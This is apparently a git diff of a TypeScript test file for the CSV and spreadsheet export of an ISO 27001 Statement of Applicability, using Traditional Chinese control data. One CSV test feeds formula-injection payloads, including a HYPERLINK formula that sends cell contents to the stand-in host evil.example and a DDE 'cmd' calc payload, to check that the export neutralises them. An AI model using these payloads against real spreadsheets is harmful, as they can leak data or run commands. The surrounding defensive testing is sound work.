@@ -1,23 +1,24 @@
 import { describe, it, expect } from 'vitest';
-import ExcelJS from 'exceljs';
-import JSZip from 'jszip';
-import { loadControls } from '../../src/lib/controls.ts';
-import { computeSoa, type ImplementingDocument, type Soa, type SoaEntry } from '../../src/lib/soa.ts';
+import { loadControls } from '../../../src/node/controls.ts';
+import type { Soa, SoaEntry } from '../../../src/lib/soa/data.ts';
+import { computeSoa, type ImplementingDocument } from '../../../src/lib/soa/matrix.ts';
 import {
 	applicabilityLabel,
 	coverageLabel,
 	reasonText,
 	SOA_COLUMNS,
 	soaCsv,
+	soaCells,
 	soaRecords,
 	soaTitleLines,
 	statusLabel,
 	type SoaHeading,
-} from '../../src/lib/soa-export.ts';
-import { soaWorkbook } from '../../src/lib/soa-xlsx.ts';
-import { PROJECT_ROOT } from './_helpers.ts';
+} from '../../../src/lib/soa/export.ts';
+import { PROJECT_ROOT } from '../_helpers.ts';
 
-const c2013 = loadControls(PROJECT_ROOT).c2013!;
+const loaded = loadControls(PROJECT_ROOT);
+const c2013 = loaded.c2013!;
+const c2022 = loaded.c2022!;
 
 const COVERED: SoaEntry = {
 	id: 'A.5.1.1',
@@ -235,35 +236,34 @@ describe('soaTitleLines', () => {
 });
 
 describe('soaCsv', () => {
-	const csv = soaCsv(matrix, HEADING);
+	const csv = soaCsv(matrix);
 
-	it('starts with a byte-order mark and the title lines', () => {
-		expect(csv.startsWith('\uFEFF臺北市政府警察局 適用性聲明書（ISO/IEC 27001:2013 附錄 A）\r\n版次 1.2；')).toBe(true);
+	it('starts with a byte-order mark and the column header on row 1', () => {
+		expect(csv.startsWith(`\uFEFF${SOA_COLUMNS.join(',')}\r\n`)).toBe(true);
 		expect(csv.indexOf('\uFEFF', 1)).toBe(-1);
 	});
 
-	it('puts the header on line 4, after the two title lines and a blank line, with CRLF line ends', () => {
-		const full = soaCsv(fullMatrix, HEADING);
+	it('has one record per control right after the header, with CRLF line ends', () => {
+		const full = soaCsv(fullMatrix);
 		const lines = full.slice(1).split('\r\n');
-		expect(lines.slice(0, 4)).toEqual([...soaTitleLines(HEADING), '', SOA_COLUMNS.join(',')]);
-		expect(lines[4]).toBe('A.5.1.1,資訊安全政策,Policies for information security,A.5 資訊安全政策,適用,風險評鑑、法規要求,已實施,資通安全處理小組,政策公告紀錄,ISMS-M-001 資訊安全管理政策,已涵蓋,2026-01-15');
-		expect(lines[5]).toBe('A.5.1.2,資訊安全政策之審查,Review of the policies for information security,A.5 資訊安全政策,不適用,本局不開放遠距工作。,,資訊室,,ISMS-M-001 資訊安全管理政策,—,2026-01-15');
-		expect(lines).toHaveLength(4 + 114 + 1);
+		expect(lines[0]).toBe(SOA_COLUMNS.join(','));
+		expect(lines[1]).toBe('A.5.1.1,資訊安全政策,Policies for information security,A.5 資訊安全政策,適用,風險評鑑、法規要求,已實施,資通安全處理小組,政策公告紀錄,ISMS-M-001 資訊安全管理政策,已涵蓋,2026-01-15');
+		expect(lines[2]).toBe('A.5.1.2,資訊安全政策之審查,Review of the policies for information security,A.5 資訊安全政策,不適用,本局不開放遠距工作。,,資訊室,,ISMS-M-001 資訊安全管理政策,—,2026-01-15');
+		expect(lines).toHaveLength(1 + 114 + 1);
 		expect(lines.at(-1)).toBe('');
 		expect(full.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
 	});
 
 	it('quotes cells with commas and quotes, doubling the quotes', () => {
 		const tricky = computeSoa(c2013, soaOf([{ ...EXCLUDED, justification: '無遠距工作, 亦無"居家辦公"方案', owner: '資訊室,總務室' }]), []);
-		const text = soaCsv(tricky, HEADING);
-		expect(text).toContain(',不適用,"無遠距工作, 亦無""居家辦公""方案",,"資訊室,總務室",,,—,2026-01-15\r\n');
+		expect(soaCsv(tricky)).toContain(',不適用,"無遠距工作, 亦無""居家辦公""方案",,"資訊室,總務室",,,—,2026-01-15\r\n');
 	});
 
-	it('has one data row per control for a full matrix', () => {
-		const rows = readCsv(soaCsv(fullMatrix, HEADING).slice(1));
-		expect(rows).toHaveLength(4 + 114);
-		expect(rows.slice(0, 4)).toEqual([[soaTitleLines(HEADING)[0]], [soaTitleLines(HEADING)[1]], [''], [...SOA_COLUMNS]]);
-		expect(rows.slice(4)).toEqual(soaRecords(fullMatrix));
+	it('reads back as the header and the records', () => {
+		const rows = readCsv(soaCsv(fullMatrix).slice(1));
+		expect(rows).toHaveLength(1 + 114);
+		expect(rows[0]).toEqual([...SOA_COLUMNS]);
+		expect(rows.slice(1)).toEqual(soaRecords(fullMatrix));
 	});
 
 	// BUG (src/lib/soa-export.ts:75): csv-stringify does not quote a field containing "\n" when
@@ -279,7 +279,7 @@ describe('soaCsv', () => {
 			soaOf([{ ...COVERED, owner: '=HYPERLINK("http://evil.example/?"&A1,"點此")', evidence: '+1+1' }, { ...EXCLUDED, justification: '-2+3', owner: '@SUM(A1:A9)' }, { ...UNCOVERED, owner: '\t=1', evidence: '\r=1' }]),
 			[doc('ISMS-P-006', '=cmd|\' /C calc\'!A0', ['A.5.1.1'])],
 		);
-		const rows = readCsv(soaCsv(hostile, HEADING).slice(1));
+		const rows = readCsv(soaCsv(hostile).slice(1));
 		const row = (id: string) => rows.find((r) => r[0] === id)!;
 		expect(row('A.5.1.1').slice(7, 10)).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"點此")`, "'+1+1", "ISMS-P-006 =cmd|' /C calc'!A0"]);
 		expect([row('A.6.2.2')[5], row('A.6.2.2')[7]]).toEqual(["'-2+3", "'@SUM(A1:A9)"]);
@@ -291,71 +291,35 @@ describe('soaCsv', () => {
 
 	it('reads back as the records, multi-line cells included', () => {
 		const rows = readCsv(csv.slice(1));
-		expect(rows).toHaveLength(4 + 114);
-		expect(rows.slice(4)).toEqual(records);
+		expect(rows).toHaveLength(1 + 114);
+		expect(rows.slice(1)).toEqual(records);
 	});
 });
 
-describe('soaWorkbook', () => {
-	async function load(buffer: ArrayBuffer): Promise<ExcelJS.Worksheet> {
-		const workbook = new ExcelJS.Workbook();
-		await workbook.xlsx.load(buffer);
-		expect(workbook.worksheets.map((s) => s.name)).toEqual(['適用性聲明書']);
-		return workbook.worksheets[0]!;
-	}
-	const text = (row: ExcelJS.Row) => Array.from({ length: SOA_COLUMNS.length }, (_, i) => {
-		const value = row.getCell(i + 1).value;
-		return value === null || value === undefined ? '' : String(value);
+describe('soaCells', () => {
+	it('are the records with 最近審查 as a date cell, empty dates left as text', () => {
+		const cells = soaCells(matrix);
+		const column = SOA_COLUMNS.indexOf('最近審查');
+		expect(cells[0]![column]).toEqual({ date: '2026-01-15' });
+		expect(cells.map((row) => row.map((cell) => (typeof cell === 'string' ? cell : cell.date)))).toEqual(records);
+		expect(cells.find((row) => row[0] === 'A.5.2.1')).toBeUndefined();
+		expect(cells.find((row) => row[0] === 'A.7.1.1')![column]).toBe('');
+	});
+});
+
+describe('crosswalk coverage in the exports', () => {
+	const soa2022: Soa = { file: 'content/soa/2.0.yaml', version: '2.0', effective: '2026-12-01', approvedBy: '資通安全長', catalogue: '2022', entries: { 'A.5.17': { id: 'A.5.17', applicable: true, reasons: ['risk'], status: 'implemented' } } };
+	const via = computeSoa(c2022, soa2022, [doc('ISMS-S-001', '通行碼管理作業說明書', ['A.9.4.3'])], loaded.crosswalk);
+	const row = via.rows.find((r) => r.control.id === 'A.5.17')!;
+
+	it('name the document with 依對照表 and the id it cites, and mark the coverage so', () => {
+		const record = soaRecords(via).find((r) => r[0] === 'A.5.17')!;
+		expect(record[SOA_COLUMNS.indexOf('實作文件')]).toBe('ISMS-S-001 通行碼管理作業說明書（依對照表：A.9.4.3）');
+		expect(coverageLabel(row)).toBe('已涵蓋（依對照表）');
 	});
 
-	it('returns an ArrayBuffer holding an xlsx (zip) file', async () => {
-		const buffer = await soaWorkbook(matrix, HEADING);
-		expect(buffer).toBeInstanceOf(ArrayBuffer);
-		expect([...new Uint8Array(buffer, 0, 4)]).toEqual([0x50, 0x4b, 0x03, 0x04]);
-	});
-
-	it('has the title lines, a blank row, the header on row 4 and one row per record', async () => {
-		const sheet = await load(await soaWorkbook(matrix, HEADING));
-		expect(sheet.getRow(1).getCell(1).value).toBe('臺北市政府警察局 適用性聲明書（ISO/IEC 27001:2013 附錄 A）');
-		expect(sheet.getRow(2).getCell(1).value).toBe('版次 1.2；生效日期 民國115年1月15日；核准 資通安全長；產製日期 民國115年3月1日');
-		expect(sheet.getRow(1).font?.bold).toBe(true);
-		expect(text(sheet.getRow(3))).toEqual(SOA_COLUMNS.map(() => ''));
-		expect(text(sheet.getRow(4))).toEqual([...SOA_COLUMNS]);
-		expect(sheet.getRow(4).font?.bold).toBe(true);
-		expect(sheet.rowCount).toBe(4 + 114);
-		const data = Array.from({ length: 114 }, (_, i) => text(sheet.getRow(5 + i)));
-		expect(data).toEqual(records);
-	});
-
-	it('keeps the two documents of a cell on two lines', async () => {
-		const sheet = await load(await soaWorkbook(matrix, HEADING));
-		expect(sheet.getRow(5).getCell(10).value).toBe('ISMS-M-001 資訊安全管理政策\nISMS-P-006 管理審查程序書');
-	});
-
-	it('writes values that look like formulas as text cells, never as formulas', async () => {
-		const hostile = computeSoa(c2013, soaOf([{ ...COVERED, owner: '=HYPERLINK("http://evil.example/","點此")', evidence: '+1+1' }, { ...EXCLUDED, justification: '@SUM(A1)' }]), []);
-		const buffer = await soaWorkbook(hostile, HEADING);
-		const sheet = await load(buffer);
-		for (const [row, column] of [[5, 8], [5, 9], [6, 6]] as const) {
-			const cell = sheet.getRow(row).getCell(column);
-			expect(cell.type).toBe(ExcelJS.ValueType.String);
-			expect(cell.formula).toBeUndefined();
-		}
-		expect(sheet.getRow(5).getCell(8).value).toBe('=HYPERLINK("http://evil.example/","點此")');
-		const zip = await JSZip.loadAsync(buffer);
-		const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
-		expect(xml).not.toMatch(/<f[\s>]/);
-	});
-
-	it('freezes the rows above the data and filters on the header', async () => {
-		const sheet = await load(await soaWorkbook(matrix, HEADING));
-		expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 });
-		expect(sheet.autoFilter).toBe('A4:L4');
-	});
-
-	it('says when there is no SoA data', async () => {
-		const sheet = await load(await soaWorkbook(computeSoa(c2013, undefined, []), NO_SOA_HEADING));
-		expect(sheet.getRow(2).getCell(1).value).toBe('尚未建立適用性聲明書資料；產製日期 民國115年3月1日');
-		expect(text(sheet.getRow(5))[4]).toBe('未列入');
+	it('a document citing the 2022 id directly is plain 已涵蓋', () => {
+		const direct = computeSoa(c2022, soa2022, [doc('ISMS-S-001', '通行碼管理作業說明書', ['A.9.4.3']), doc('ISMS-P-014', '存取控制管理程序書', ['A.5.17'])], loaded.crosswalk);
+		expect(coverageLabel(direct.rows.find((r) => r.control.id === 'A.5.17')!)).toBe('已涵蓋');
 	});
 });
